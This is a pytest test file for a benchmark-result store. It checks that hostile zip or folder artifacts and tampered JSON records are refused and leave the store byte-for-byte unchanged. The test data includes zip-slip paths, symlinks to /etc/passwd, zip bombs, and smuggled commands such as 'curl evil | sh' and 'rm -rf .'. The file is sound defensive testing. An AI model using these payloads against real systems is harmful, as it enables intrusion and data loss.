"""Hostile artifacts: each is refused for its own reason, and the store stays as it was to the byte."""

from __future__ import annotations

import json
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from campaign_sets import (
    Files,
    Line,
    Night,
    bytes_of,
    files_of,
    import_sets,
    in_plan,
    in_row,
    relined,
    sealed,
    terms,
    write_folder,
    write_zip,
)

from torchgauge.records import SCHEMA_VERSION
from torchgauge.results.store import Store
from torchgauge.workflows.ingest.container import Caps, read_container
from torchgauge.workflows.ingest.refusal import Reason, RefusedSetError
from torchgauge.workflows.ingest.validator import validate

MAN, PLAN, JOURNAL = "manifest.json", "plan.json", "journal.jsonl"


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    """A night with a good run in its store already."""
    night = Night(tmp_path_factory.mktemp("night"))
    taken, refused = import_sets(night.store, [night.pack(2)], night.expected, clock=night.clock)
    assert len(taken) == 1
    assert not refused
    return night


def refusal(night: Night, path: Path) -> Reason:
    """Why the artifact at ``path`` is refused; fails where it is taken or anything of it is in the store."""
    before = bytes_of(night.store.path)
    taken, refused = import_sets(night.store, [path], night.expected, clock=night.clock)
    assert not taken
    assert bytes_of(night.store.path) == before
    assert len(refused) == 1
    records = [json.loads(text) for text in bytes_of(night.store.path / "rejected", ()).values()]
    said = {**asdict(refused[0]), "reason": refused[0].reason.value}
    assert [{name: each[name] for name in said} for each in records].count(said) == 1
    assert refused[0].reason in Reason
    assert refused[0].detail.isprintable()
    assert "evil" not in refused[0].detail, "a refusal quotes the set"
    return refused[0].reason


def entries(files: Files) -> list[tuple[str | zipfile.ZipInfo, bytes]]:
    return list(files.items())


def kind_of(name: str, mode: int) -> zipfile.ZipInfo:
    """A zip entry with the Unix ``mode`` of something that is no ordinary file."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def declared(path: Path, size: int) -> Path:
    """The zip at ``path`` with another declared size for its first entry, in both headers."""
    data = bytearray(path.read_bytes())
    for marker, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        where = data.index(marker) + at
        data[where : where + 4] = struct.pack("<I", size)
    path.write_bytes(bytes(data))
    return path


ZIPS: dict[str, tuple[Reason, Callable[[Files], list[tuple[str | zipfile.ZipInfo, bytes]]]]] = {
    "zip slip": (Reason.FILE_NAME, lambda f: [*entries(f), ("../../evil.json", b"{}")]),
    "slip with backslashes": (Reason.FILE_NAME, lambda f: [*entries(f), ("..\\evil.json", b"{}")]),
    "absolute path": (Reason.FILE_NAME, lambda f: [*entries(f), ("/etc/cron.d/evil", b"{}")]),
    "a drive": (Reason.FILE_NAME, lambda f: [*entries(f), ("C:evil.json", b"{}")]),
    "symlink": (Reason.NOT_A_FILE, lambda f: [(kind_of(PLAN, 0o120777), b"/etc/passwd"), *entries(f)[1:]]),
    "device node": (Reason.NOT_A_FILE, lambda f: [(kind_of(PLAN, 0o020666), b""), *entries(f)[1:]]),
    "folder": (Reason.EXTRA_FILE, lambda f: [*entries(f), ("folder/", b"")]),
    "duplicate name": (Reason.DUPLICATE_NAME, lambda f: [*entries(f), (MAN, f[MAN])]),
    "extra file": (Reason.EXTRA_FILE, lambda f: [*entries(f), ("readme.txt", b"hello")]),
    "too many files": (Reason.TOO_MANY_FILES, lambda f: [*entries(f), ("a", b""), ("b", b"")]),
    "missing file": (Reason.MISSING_FILE, lambda f: [(MAN, f[MAN]), (PLAN, f[PLAN])]),
    "no entries": (Reason.EMPTY, lambda _: []),
    "bomb by ratio": (Reason.RATIO, lambda f: [(MAN, f[MAN]), (PLAN, f[PLAN]), (JOURNAL, b" " * (16 << 20))]),
    "bomb by size": (Reason.TOO_LARGE, lambda f: [(MAN, b" " * (1 << 20)), *entries(f)]),
}


@pytest.mark.parametrize("name", ZIPS)
def test_a_hostile_zip_is_refused(name: str, night: Night, good: Files, tmp_path: Path) -> None:
    """Names, links, bombs and surplus in a zip end at the door."""
    reason, make = ZIPS[name]
    path = write_zip(tmp_path / "evil.zip", make(good))
    assert refusal(night, path) is reason


def test_a_bomb_that_lies_about_its_size_ends_at_the_declared_size(
    night: Night, good: Files, tmp_path: Path
) -> None:
    """What a header declares is no promise: more bytes than that are refused while they are read."""
    path = write_zip(
        tmp_path / "liar.zip", [(JOURNAL, b" " * (8 << 20)), (MAN, good[MAN]), (PLAN, good[PLAN])]
    )
    assert refusal(night, declared(path, 1000)) in (Reason.UNREADABLE, Reason.TOO_LARGE)


def test_the_actual_size_counts(good: Files, tmp_path: Path) -> None:
    """A file of a folder that is longer than its cap is refused, and one of exactly its cap is read."""
    folder = write_folder(tmp_path / "set", good)
    sizes = {name: len(data) for name, data in good.items()}
    assert read_container(folder, Caps(sizes=sizes)) == good
    with pytest.raises(RefusedSetError) as refused:
        read_container(folder, Caps(sizes={**sizes, JOURNAL: sizes[JOURNAL] - 1}))
    assert refused.value.reason is Reason.TOO_LARGE


@pytest.mark.parametrize("length", [0, 1, 30, 200, -1, -30])
def test_a_truncated_zip_is_refused(length: int, night: Night, good: Files, tmp_path: Path) -> None:
    """A zip that was cut off anywhere is no zip, and an empty file is empty."""
    path = write_zip(tmp_path / "cut.zip", entries(good))
    path.write_bytes(path.read_bytes()[:length])
    assert refusal(night, path) is (Reason.UNREADABLE if length else Reason.EMPTY)


def test_a_list_of_contents_is_refused_before_it_is_read(night: Night, good: Files, tmp_path: Path) -> None:
    """A zip of many thousand entries, or of the kind for huge files, ends at its last bytes."""
    many = write_zip(tmp_path / "many.zip", [*entries(good), *((f"{i}", b"") for i in range(3000))])
    assert refusal(night, many) is Reason.TOO_MANY_FILES
    huge = write_zip(tmp_path / "huge.zip", entries(good))
    data = huge.read_bytes()
    huge.write_bytes(data[:-22] + b"PK\x06\x07" + bytes(16) + data[-22:])
    assert refusal(night, huge) is Reason.TOO_LARGE


def test_a_folder_may_hold_no_link_pipe_or_second_folder(night: Night, good: Files, tmp_path: Path) -> None:
    """A folder passes through the same caps as a zip."""
    import os

    linked = write_folder(tmp_path / "linked", good)
    (linked / PLAN).unlink()
    (linked / PLAN).symlink_to("/etc/passwd")
    piped = write_folder(tmp_path / "piped", good)
    (piped / PLAN).unlink()
    os.mkfifo(piped / PLAN)
    deep = write_folder(tmp_path / "deep", good)
    (deep / "a" / "b").mkdir(parents=True)
    extra = write_folder(tmp_path / "extra", {**good, "more.json": b"{}"})
    (tmp_path / "empty").mkdir()
    (tmp_path / "link").symlink_to(linked)
    assert refusal(night, linked) is Reason.NOT_A_FILE
    assert refusal(night, piped) is Reason.NOT_A_FILE
    assert refusal(night, deep) is Reason.EXTRA_FILE
    assert refusal(night, extra) is Reason.EXTRA_FILE
    assert refusal(night, tmp_path / "empty") is Reason.EMPTY
    assert refusal(night, tmp_path / "link") is Reason.NOT_A_FILE
    assert refusal(night, tmp_path / "nowhere") is Reason.UNREADABLE


def row_text(value: str) -> Callable[[Files], Files]:
    """The reason of the first row, in JSON's escapes."""
    return lambda f: in_row(f, b'"reason":""', b'"reason":' + json.dumps(value).encode())


def without(kind: bytes, which: int) -> Callable[[Files], Files]:
    """A journal without one of its lines of ``kind``."""

    def edit(lines: list[Line]) -> list[Line]:
        found = [i for i, line in enumerate(lines) if line[0] == kind]
        return [line for i, line in enumerate(lines) if i != found[which]]

    return lambda f: relined(f, edit)


def twice(lines: list[Line]) -> list[Line]:
    at = next(i for i, line in enumerate(lines) if line[0] == b"result")
    return [*lines[: at + 1], lines[at], *lines[at + 1 :]]


def manifest(**changes: object) -> Callable[[Files], Files]:
    return lambda f: sealed(f, **changes)


def torn(f: Files) -> Files:
    return sealed({**f, JOURNAL: f[JOURNAL][:-40]})


def flipped(f: Files) -> Files:
    data = bytearray(f[JOURNAL])
    data[len(data) // 2] ^= 1
    return sealed({**f, JOURNAL: bytes(data)})


def swapped_cases(f: Files) -> Files:
    """The first row claims to be the second case, and keeps its own workload."""
    return in_row(f, b'"case_id":"toy/linear', b'"case_id":"toy/conv')


NUL, BIDI, ESC = "\x00", "\u202e", "\x1b[2J"
SETS: dict[str, tuple[Reason, Callable[[Files], Files]]] = {
    "NaN": (Reason.JSON, lambda f: in_row(f, b'"duration_s":0.0', b'"duration_s":NaN')),
    "Infinity": (Reason.JSON, lambda f: in_row(f, b'"duration_s":0.0', b'"duration_s":-Infinity')),
    "1e999": (Reason.NUMBER, lambda f: in_row(f, b'"duration_s":0.0', b'"duration_s":1e999')),
    "nesting": (
        Reason.SCHEMA,
        lambda f: in_row(f, b'"facts":[]', b'"facts":' + b"[" * 100_000 + b"]" * 100_000),
    ),
    "nesting in escaped text": (
        Reason.DEPTH,
        lambda f: in_row(
            f, b'"reason":"","failure":null', b'"reason":"\\n","failure":' + b"[" * 100_000 + b"]" * 100_000
        ),
    ),
    "nesting in the recipe": (
        Reason.DEPTH,
        lambda f: in_plan(f, b'"recipe": {}', b'"recipe": {"a": ' + b"[" * 60 + b"]" * 60 + b"}"),
    ),
    "giant integer": (Reason.NUMBER, lambda f: in_row(f, b'"parameters":72', b'"parameters":' + b"9" * 5000)),
    "large integer": (
        Reason.UNPUBLISHABLE,
        lambda f: in_row(f, b'"parameters":72', b'"parameters":' + b"9" * 20),
    ),
    "lone surrogate": (Reason.TEXT, lambda f: in_row(f, b'"reason":""', b'"reason":"\\ud800"')),
    "lone low surrogate": (Reason.TEXT, lambda f: in_row(f, b'"reason":""', b'"reason":"a\\udc00b"')),
    "bidi": (Reason.TEXT, row_text(f"safe {BIDI} gpj.exe")),
    "zero width": (Reason.TEXT, row_text("pass\u200bed")),
    "control": (Reason.TEXT, row_text(f"a{NUL}b")),
    "terminal escape": (Reason.TEXT, row_text(ESC)),
    "not composed": (Reason.TEXT, row_text("e\u0301")),
    "raw UTF-8": (Reason.TEXT, lambda f: in_row(f, b'"reason":""', '"reason":"é"'.encode())),
    "invalid UTF-8": (Reason.TEXT, lambda f: in_row(f, b'"reason":""', b'"reason":"\xff"')),
    "line feed in a name": (
        Reason.TEXT,
        lambda f: in_row(f, b'"exit":"","teardown":"","log":""', b'"exit":"","teardown":"","log":"a\\nb"'),
    ),
    "huge line": (Reason.TOO_LARGE, row_text("a" * (5 << 20))),
    "unknown field": (Reason.UNPUBLISHABLE, lambda f: in_row(f, b'"exit":""', b'"exit":"","evil":1')),
    "missing field": (Reason.SCHEMA, lambda f: in_row(f, b'"status":"pass",', b"")),
    "wrong type": (Reason.SCHEMA, lambda f: in_row(f, b'"duration_s":0.0', b'"duration_s":"0"')),
    "unknown status that speaks": (
        Reason.SCHEMA,
        lambda f: in_row(f, b'"status":"pass"', b'"status":"@evil \'quoted\' evil"'),
    ),
    "unknown field that speaks": (
        Reason.UNPUBLISHABLE,
        lambda f: in_row(f, b'"exit":""', b'"exit":"","@evil `x` evil":1'),
    ),
    "key that is not plain and speaks": (
        Reason.TEXT,
        lambda f: in_row(f, b'"exit":""', b'"exit":"","@evil \\u202e":1'),
    ),
    "unknown status": (Reason.SCHEMA, lambda f: in_row(f, b'"status":"pass"', b'"status":"great"')),
    "no JSON": (Reason.JSON, lambda f: {**f, MAN: b"{"}),
    "wrong schema": (Reason.SCHEMA, manifest(schema=9)),
    "rows of another schema": (
        Reason.SCHEMA,
        lambda f: in_row(f, b'"schema_version":%d' % SCHEMA_VERSION, b'"schema_version":1'),
    ),
    "plan of another schema": (
        Reason.SCHEMA,
        lambda f: in_plan(f, b'"schema_version": %d' % SCHEMA_VERSION, b'"schema_version": 9'),
    ),
    "foreign SHA": (Reason.FOREIGN_SHA, manifest(sha="b" * 40)),
    "foreign campaign": (Reason.FOREIGN_CAMPAIGN, manifest(campaign_id="2026-05-27-torch-2.9.0-aabbccdd")),
    "another campaign digest": (Reason.PLAN_DIGEST, manifest(campaign_digest="0" * 16)),
    "wrong plan digest": (Reason.PLAN_DIGEST, lambda f: in_plan(f, b'"checks": false', b'"checks": true')),
    "foreign pool": (Reason.FOREIGN_SHARD, manifest(pool="other")),
    "no such shard": (Reason.FOREIGN_SHARD, manifest(shard=9)),
    "another shard": (Reason.FOREIGN_IDENTITY, manifest(shard=2)),
    "another number of shards": (Reason.FOREIGN_SHARD, manifest(of=3)),
    "another run": (Reason.FOREIGN_IDENTITY, manifest(run_id="20260528T201000Z-00000000")),
    "path as run id": (Reason.RUN_ID, manifest(run_id="../../etc")),
    "other state": (Reason.SCHEMA, manifest(state="interrupted")),
    "hash": (Reason.HASH, lambda f: {**f, JOURNAL: f[JOURNAL] + b"\n"}),
    "listed twice": (
        Reason.SCHEMA,
        lambda f: {
            **f,
            MAN: f[MAN].replace(
                b'"files": [', b'"files": [' + json.dumps(json.loads(f[MAN])["files"][0]).encode() + b", "
            ),
        },
    ),
    "configuration of another meaning": (
        Reason.CONFIGURATION,
        lambda f: in_plan(f, b'"fullgraph": false', b'"fullgraph": true'),
    ),
    "case not in the shard": (
        Reason.FOREIGN_CASE,
        lambda f: in_plan(f, b'"model": "linear"', b'"model": "evil"'),
    ),
    "row of no planned case": (
        Reason.FOREIGN_CASE,
        lambda f: in_row(f, b'"case_id":"toy/linear', b'"case_id":"toy/evil'),
    ),
    "row that is another case": (Reason.FOREIGN_CASE, swapped_cases),
    "case twice": (Reason.CASE_TWICE, lambda f: relined(f, twice)),
    "case twice in the plan": (
        Reason.CASE_TWICE,
        lambda f: in_plan(f, b'"model": "linear"', b'"model": "conv"'),
    ),
    "case without a row": (Reason.MISSING_CASE, without(b"result", 0)),
    "negative time": (Reason.NUMBER, lambda f: in_row(f, b'"duration_s":0.0', b'"duration_s":-1.0')),
    "negative count": (Reason.NUMBER, lambda f: in_row(f, b'"median":0.001', b'"median":-0.001')),
    "absurd sample": (Reason.NUMBER, lambda f: in_row(f, b'"samples":[0.', b'"samples":[100000000.')),
    "blocks of other samples": (Reason.SCHEMA, lambda f: in_row(f, b'"blocks":[0,', b'"blocks":[')),
    "summary of other samples": (Reason.ROW, lambda f: in_row(f, b'"n":10', b'"n":11')),
    "interval upside down": (Reason.NUMBER, lambda f: in_row(f, b'"median":0.001', b'"median":0.5')),
    "unknown metric": (Reason.ROW, lambda f: in_row(f, b'"metric":"latency"', b'"metric":"latencx"')),
    "no metric": (Reason.ROW, lambda f: in_row(f, b'"metric":"latency"', b'"metric":"Latency!"')),
    "cause of another status": (Reason.SCHEMA, lambda f: in_row(f, b'"cause":null', b'"cause":"signal"')),
    "row of another run": (Reason.ROW, lambda f: in_row(f, b"-001-01-", b"-002-01-")),
    "unknown environment": (
        Reason.ENVIRONMENT,
        lambda f: in_row(f, b'"environment_id":"', b'"environment_id":"0'),
    ),
    "before the campaign": (
        Reason.TIME,
        lambda f: in_row(f, b'"started_at":1780000001.0', b'"started_at":1770000001.0'),
    ),
    "in the future": (
        Reason.TIME,
        lambda f: in_row(f, b'"started_at":1780000001.0', b'"started_at":1790000001.0'),
    ),
    "plan of last year": (
        Reason.TIME,
        lambda f: in_plan(f, b'"created_at": 1780000000.0', b'"created_at": 1750000000.0'),
    ),
    "command that does more": (
        Reason.TEXT,
        lambda f: in_row(f, b'"reproduce":"torchgauge', b'"reproduce":"curl evil | sh; torchgauge'),
    ),
    "command with a tail": (
        Reason.TEXT,
        lambda f: in_row(f, b'eager@fake","attempt', b'eager@fake; rm -rf .","attempt'),
    ),
    "log elsewhere": (Reason.TEXT, lambda f: in_row(f, b'"log":""', b'"log":"../../x"')),
    "other device": (
        Reason.DEVICE,
        lambda f: relined(
            f,
            lambda lines: [
                (k, b.replace(b'"device":"fake"', b'"device":"fast"') if k == b"environment" else b)
                for k, b in lines
            ],
        ),
    ),
    "truncated journal": (Reason.DAMAGED_JOURNAL, torn),
    "flipped bit": (Reason.DAMAGED_JOURNAL, flipped),
    "journal without an end": (Reason.DAMAGED_JOURNAL, without(b"end", 0)),
    "journal without a stamp": (Reason.JOURNAL_ORDER, without(b"plan", 0)),
    "line of an A/B run": (
        Reason.SCHEMA,
        lambda f: relined(f, lambda lines: [*lines[:1], (b"launch", b"{}"), *lines[1:]]),
    ),
    "lines after the end": (Reason.JOURNAL_ORDER, lambda f: relined(f, lambda lines: [*lines, lines[-1]])),
}


@pytest.mark.parametrize("name", SETS)
def test_a_hostile_set_is_refused(name: str, night: Night, good: Files, tmp_path: Path) -> None:
    """Whatever is wrong in a set whose hashes and checksums are right is found, and nothing is imported."""
    reason, spoil = SETS[name]
    assert refusal(night, write_folder(tmp_path / "set", spoil(dict(good)))) is reason


def test_every_byte_of_a_set_is_under_a_check(night: Night, good: Files, tmp_path: Path) -> None:
    """A flipped bit anywhere in plan or journal is found, and one in the manifest changes no content."""
    for name in (PLAN, JOURNAL):
        for at in range(0, len(good[name]), max(1, len(good[name]) // 60)):
            data = bytearray(good[name])
            data[at] ^= 4
            with pytest.raises(RefusedSetError):
                validate({**good, name: bytes(data)}, night.expected)


def test_any_change_of_content_is_refused_by_name_or_can_be_published(night: Night, good: Files) -> None:
    """However a set is changed and sealed again, the answer is a reason, or a run that makes whole tables."""
    import random

    from torchgauge.workflows.ingest.intake import Candidate, take

    chance = random.Random(7)
    values = [b"null", b"-1", b"[]", b"{}", b'""', b"1e308", b"true", b"9" * 17, b'"\\u0000"', b"0.5", b","]
    refused, accepted = 0, []
    for _ in range(400):

        def spoil(lines: list[Line]) -> list[Line]:
            at = chance.randrange(len(lines))
            kind, body = lines[at]
            tokens = [found.span() for found in re.finditer(rb'"[^"]*"|-?[0-9][0-9.e+-]*|[\[\]{},:]', body)]
            begin, end = chance.choice(tokens)
            lines[at] = (kind, body[:begin] + chance.choice(values) + body[end:])
            return lines

        try:
            files = relined(dict(good), spoil)
            accepted.append((files, validate(files, night.expected)))
        except RefusedSetError:
            refused += 1
    assert refused > 300
    for number, (files, valid) in enumerate(accepted[:5]):
        store = Store.open(night.path / f"spoilt-{number}", create=True)
        path = write_folder(night.path / f"spoilt-set-{number}", files)
        take(store, Candidate("spoilt", path, valid), clock=night.clock)
        assert store.published() == (night.run_id(1, 1),)


def test_a_good_set_is_taken_as_folder_and_as_zip(tmp_path: Path) -> None:
    """What was packed here is imported, and the second time it is there already."""
    night = Night(tmp_path)
    folder = night.pack(1)
    zipped = write_zip(tmp_path / "set.zip", entries(files_of(folder)))
    taken, refused = import_sets(night.store, [zipped, folder], night.expected, clock=night.clock)
    assert not refused
    assert [run.new for run in taken] == [True, False]
    assert taken[0].counts == {"pass": 2}
    assert night.store.published() == (night.run_id(1, 1),)
    assert (night.store.path / "runs" / night.run_id(1, 1) / JOURNAL).read_bytes() == (
        folder / JOURNAL
    ).read_bytes()


def test_an_import_that_was_killed_is_made_good(tmp_path: Path) -> None:
    """A run folder without its tables is published the next time, and what was staged is cleared away."""
    night = Night(tmp_path)
    folder = night.pack(1)
    import_sets(night.store, [folder], night.expected, clock=night.clock)
    whole = bytes_of(night.store.path)
    for table in (night.store.path / "tables").glob(f"*/{night.run_id()}.parquet"):
        table.unlink()
    (night.store.path / ".staging-0000.tmp" / "runs" / "run-9").mkdir(parents=True)
    taken, _ = import_sets(night.store, [folder], night.expected, clock=night.clock)
    assert not taken[0].new
    assert night.store.published() == (night.run_id(1, 1),)
    assert bytes_of(night.store.path).keys() == whole.keys()


def test_an_artifact_that_changes_after_its_check_is_refused(tmp_path: Path) -> None:
    """What is imported is what was checked, to the byte."""
    from torchgauge.workflows.ingest.intake import Candidate, examine, take

    night = Night(tmp_path)
    folder = night.pack(1)
    found = examine(folder, night.expected, named=True)
    assert isinstance(found, Candidate)
    changed = in_row(files_of(folder), b'"duration_s":0.0', b'"duration_s":7.0')
    for name, data in changed.items():
        (folder / name).write_bytes(data)
    before = bytes_of(night.store.path)
    with pytest.raises(RefusedSetError) as refused:
        take(night.store, found, clock=night.clock)
    assert refused.value.reason is Reason.HASH
    assert bytes_of(night.store.path) == before


def test_a_run_of_the_same_name_with_other_content_is_refused(tmp_path: Path) -> None:
    """A set cannot replace a run that is in the store."""
    night = Night(tmp_path)
    first = night.pack(1)
    import_sets(night.store, [first], night.expected, clock=night.clock)
    other = in_row(files_of(first), b'"duration_s":0.0', b'"duration_s":1.0')
    assert refusal(night, write_folder(tmp_path / "other", other)) is Reason.RUN_EXISTS


def test_a_configuration_of_the_campaigns_own_is_known_by_its_file(tmp_path: Path) -> None:
    """A name that torchgauge does not have is taken with the file that declares it, as declared there."""
    from dataclasses import replace

    from torchgauge.records import Configuration

    file = tmp_path / "own.yaml"
    file.write_text("configurations:\n  - {name: mine, doc: ours, backend: eager, threads: 2}\n")
    night = Night(tmp_path / "night")
    mine = Configuration("mine", "eager", threads=2)
    night.cases = [replace(each, configuration=mine) for each in night.cases]
    found = [
        (shard, night.cases[2 * shard.index - 2 : 2 * shard.index])
        for shard in night.campaign.pools[0].shards
    ]
    parts = tuple(
        replace(shard, cases=tuple(each.id for each in cases), terms=terms(cases)) for shard, cases in found
    )
    night.campaign = replace(night.campaign, pools=(replace(night.campaign.pools[0], shards=parts),))
    files = files_of(night.pack(1))
    with pytest.raises(RefusedSetError) as refused:
        validate(files, night.expected)
    assert refused.value.reason is Reason.CONFIGURATION
    assert validate(files, replace(night.expected, configurations=str(file))).rows == 2
    file.write_text(file.read_text().replace("threads: 2", "threads: 4"))
    with pytest.raises(RefusedSetError):
        validate(files, replace(night.expected, configurations=str(file)))


def test_every_reason_is_in_the_docs() -> None:
    """Who reads a refusal finds its word in the how-to."""
    page = (Path(__file__).parents[2] / "docs" / "how-to" / "query-your-data.md").read_text()
    assert [reason.value for reason in Reason if f"`{reason.value}`" not in page] == []
